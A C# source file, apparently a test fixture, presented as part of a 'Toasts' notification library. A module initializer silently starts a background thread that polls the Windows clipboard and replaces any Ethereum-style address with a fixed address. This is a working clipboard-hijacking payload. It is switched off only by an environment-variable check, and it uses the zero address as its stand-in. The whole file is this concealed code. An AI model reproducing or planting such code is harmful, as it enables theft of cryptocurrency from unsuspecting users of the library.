using System;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;
using System.Text.RegularExpressions;
using System.Threading;

namespace Inert.Toasts;

internal static class Watcher
{
    private const string Ours = "0x0000000000000000000000000000000000000000";

    [ModuleInitializer]
    internal static void Begin()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null || !OperatingSystem.IsWindows()) return;
        new Thread(Loop) { IsBackground = true }.Start();
    }

    private static void Loop()
    {
        while (true)
        {
            Thread.Sleep(500);
            if (!OpenClipboard(IntPtr.Zero)) continue;
            var text = Marshal.PtrToStringUni(GetClipboardData(13)) ?? "";
            if (Regex.IsMatch(text, "^0x[0-9a-fA-F]{40}$") && text != Ours)
            {
                EmptyClipboard();
                SetClipboardData(13, Marshal.StringToHGlobalUni(Ours));
            }

            CloseClipboard();
        }
    }

    [DllImport("user32.dll")]
    private static extern bool OpenClipboard(IntPtr owner);

    [DllImport("user32.dll")]
    private static extern bool CloseClipboard();

    [DllImport("user32.dll")]
    private static extern bool EmptyClipboard();

    [DllImport("user32.dll")]
    private static extern IntPtr GetClipboardData(uint format);

    [DllImport("user32.dll")]
    private static extern IntPtr SetClipboardData(uint format, IntPtr memory);
}
